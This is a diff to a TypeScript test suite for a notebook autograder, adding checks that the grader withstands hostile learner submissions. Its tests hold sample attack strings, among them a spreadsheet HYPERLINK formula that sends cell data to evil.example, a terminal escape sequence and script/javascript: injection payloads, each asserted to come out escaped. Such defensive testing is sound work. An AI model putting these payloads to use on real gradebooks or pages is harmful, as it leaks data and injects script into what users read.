@@ -7,10 +7,16 @@ import * as path from "path";
 import { gradeBatch, type LearnerResult } from "../grader/batch";
 import { loadExerciseSet, loadSolution } from "../grader/expected";
 import { gradeNotebook } from "../grader/grade";
-import { feedbackHtml, feedbackMarkdown, gradebookCsv } from "../grader/gradebook";
+import { feedbackHtml, feedbackMarkdown, gradebookCsv, writeOutputs } from "../grader/gradebook";
+import { main } from "../grader/cli";
+import { parse } from "csv-parse/sync";
 import { formatTable, gradescopeJson } from "../grader/report";
 import { closeTypeChecker } from "../grader/typecheck";
 import { checkLeaks } from "../grader/verify";
+// NOTE: the corpus is graded with every time limit halved (COURSE_TIME_SCALE × 0.5, for this suite's
+// batch workers): its runaway cases wait out per-cell and per-call limits, and half of them still
+// leave honest section-01 code ≥ 3× headroom (its slowest cell imports mathjs, ≈ 0.6 s; calls take ms).
+process.env.COURSE_TIME_SCALE = String(0.5 * Number(process.env.COURSE_TIME_SCALE || 1));
 import { edited, json } from "./corpus/build";
 import { cases, marker } from "./corpus/cases";
 
@@ -21,20 +27,32 @@ let results: LearnerResult[] = [];
 /** Every learner process the batch started: each leads its own process group. */
 const spawned = new Set<number>();
 
+const outputs = path.join(dir, "out");
+fs.mkdirSync(outputs);
+let summary = "";
+
 beforeAll(async () => {
-  for (const c of cases) fs.writeFileSync(path.join(dir, `${c.name}.ipynb`), c.file(dir));
+  for (const c of cases) {
+    const file = path.join(dir, `${c.name}.ipynb`), content = c.file(dir);
+    if (typeof content === "object" && "sparseBytes" in content) { fs.writeFileSync(file, ""); fs.truncateSync(file, content.sparseBytes); }
+    else fs.writeFileSync(file, content);
+  }
   const t0 = Date.now();
   results = await gradeBatch(cases.map((c) => path.join(dir, `${c.name}.ipynb`)), { jobs: 2, onSpawn: (pid) => spawned.add(pid) });
   const seconds = (Date.now() - t0) / 1000; // printed, never asserted: the machine may be slow or busy
+  writeOutputs(results, { csv: path.join(outputs, "gradebook.csv"), jsonDir: path.join(outputs, "results"), feedbackDir: path.join(outputs, "feedback") });
+  const out = { text: "", write(s: string) { this.text += s; return true; } };
+  await main(["node", "course", "grade", "--quiet", "--jobs", "1", ...cases.filter((c) => c.group === "injection" || c.group === "identity").map((c) => path.join(dir, `${c.name}.ipynb`))], out as any, out as any);
+  summary = out.text;
   // The table of the closing note: case, outcome, time.
-  const rows = cases.map((c, i) => `${c.group.padEnd(8)} ${c.name.padEnd(46)} ${results[i].status.padEnd(15)} ${String(results[i].report?.score ?? "-").padStart(4)}  ${results[i].seconds.toFixed(1).padStart(5)} s`);
+  const rows = cases.map((c, i) => `${c.group.padEnd(9)} ${c.name.padEnd(46)} ${results[i].status.padEnd(15)} ${String(results[i].report?.score ?? "-").padStart(4)}  ${results[i].seconds.toFixed(1).padStart(5)} s`);
   console.log(`${cases.length} cases graded as one batch on 2 workers in ${seconds.toFixed(0)} s\n${rows.join("\n")}`);
 });
 afterAll(() => closeTypeChecker());
 
 test("the corpus covers every kind of hostile or broken submission, at least 40 cases", () => {
   expect(cases.length).toBeGreaterThanOrEqual(40);
-  expect(new Set(cases.map((c) => c.group))).toEqual(new Set(["runaway", "escape", "lying", "broken", "mistake"]));
+  expect(new Set(cases.map((c) => c.group))).toEqual(new Set(["runaway", "escape", "lying", "broken", "mistake", "forging", "poisoning", "identity", "leaks", "injection"]));
   expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
 });
 
@@ -42,15 +60,48 @@ test.each(cases.map((c, i) => [c.name, i] as const))("%s gets its expected statu
   const c = cases[i], r = results[i];
   expect([c.name, [c.expect.status, ...(c.expect.orStatus ?? [])].includes(r.status) ? c.expect.status : r.status]).toEqual([c.name, c.expect.status]);
   if (c.expect.status === "not-a-notebook") return expect(r.error).toMatch(/\S/);
-  const want = Object.fromEntries(set.parts.map((p) => [p.name, (c.expect.zero ?? []).includes(p.name) ? 0 : p.points]));
+  const want = Object.fromEntries(loadExerciseSet(c.section ?? S).parts.map((p) => [p.name, (c.expect.zero ?? []).includes(p.name) ? 0 : p.points]));
   expect(Object.fromEntries(r.report!.parts.map((p) => [p.name, p.points]))).toEqual(want);
   if (c.expect.notes) expect(r.report!.notes.join("\n")).toMatch(c.expect.notes);
   for (const [part, re] of Object.entries(c.expect.feedback ?? {})) expect(r.report!.parts.find((p) => p.name === part)!.feedback.join("\n")).toMatch(re);
 });
 
-test("the whole batch, runaway cases included, gives every case its row", () => {
+test("the whole batch, runaway cases included, gives every case its row, its results.json and its feedback", () => {
   expect(results).toHaveLength(cases.length);
   expect(results.map((r) => path.basename(r.file, ".ipynb"))).toEqual(cases.map((c) => c.name));
+  expect(fs.readdirSync(path.join(outputs, "results"))).toHaveLength(cases.length);
+  expect(fs.readdirSync(path.join(outputs, "feedback"))).toHaveLength(cases.length);
+  expect(parse(fs.readFileSync(path.join(outputs, "gradebook.csv"), "utf8"), { columns: true })).toHaveLength(cases.length);
+});
+
+test("a notebook claiming another learner's id is flagged with that learner, and neither overwrites the other's files", () => {
+  const [thief, victim] = ["claims-to-be-another-learner", "sources-as-strings"].map((n) => results[cases.findIndex((c) => c.name === n)]);
+  expect([thief.learner, victim.learner]).toEqual(["sources-as-strings", "sources-as-strings"]);
+  for (const r of [thief, victim]) expect(r.flags).toEqual(['duplicate-id: 2 submissions claim "sources-as-strings"']);
+  expect(thief.key).not.toBe(victim.key);
+  for (const r of [thief, victim]) expect(JSON.parse(fs.readFileSync(path.join(outputs, "results", `${r.key}.json`), "utf8")).score).toBe(r.report!.score);
+});
+
+test("learners named in any script keep their own files, and a 300-character id is cut to 100", () => {
+  for (const name of ["李雷", "韩梅梅"]) expect(fs.existsSync(path.join(outputs, "results", `${name}.json`))).toBe(true);
+  expect(results[cases.findIndex((c) => c.name === "an-id-of-300-characters")].learner).toBe(`${"x".repeat(99)}…`);
+});
+
+test("what instructors read holds no control characters, formulas are text, Markdown and HTML are escaped", () => {
+  const csv = fs.readFileSync(path.join(outputs, "gradebook.csv"), "utf8");
+  for (const text of [csv, summary, ...results.map((r) => (r.report ? formatTable(r.report, 200) : ""))]) expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+  const rows: Record<string, string>[] = parse(csv, { columns: true });
+  expect(rows.find((r) => r.learner.includes("HYPERLINK"))!.learner).toBe("'=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")");
+  expect(summary.split("\n").filter((l) => /100 \/ 100/.test(l) && l.includes("mallory"))).toEqual([expect.stringMatching(/^bob \[2K mallory /)]);
+  const md = fs.readFileSync(path.join(outputs, "feedback", "script-and-markdown-in-a-thrown-message.md"), "utf8");
+  expect(md).toContain("&lt;script&gt;alert(1)&lt;/script&gt; \\[grade\\](javascript:alert(1)) \\*\\*100/100\\*\\*");
+});
+
+test("hidden-case feedback never echoes what the learner's code threw, nor an error's size", () => {
+  const hiddenLines = results.flatMap((r) => r.report?.parts.flatMap((p) => p.feedback) ?? []).filter((l) => l.startsWith("hidden case"));
+  expect(hiddenLines.length).toBeGreaterThan(10);
+  expect(hiddenLines.filter((l) => /: threw [\w ]+: |largest error|\d\.\d+e-\d|inputs \[/.test(l))).toEqual([]);
+  expect(results.flatMap((r) => r.report?.notes ?? []).filter((n) => n.length > 1000)).toEqual([]);
 });
 
 test("no output of the grader over the corpus — table, results.json, gradebook, feedback — holds a hidden value or a solution line", () => {
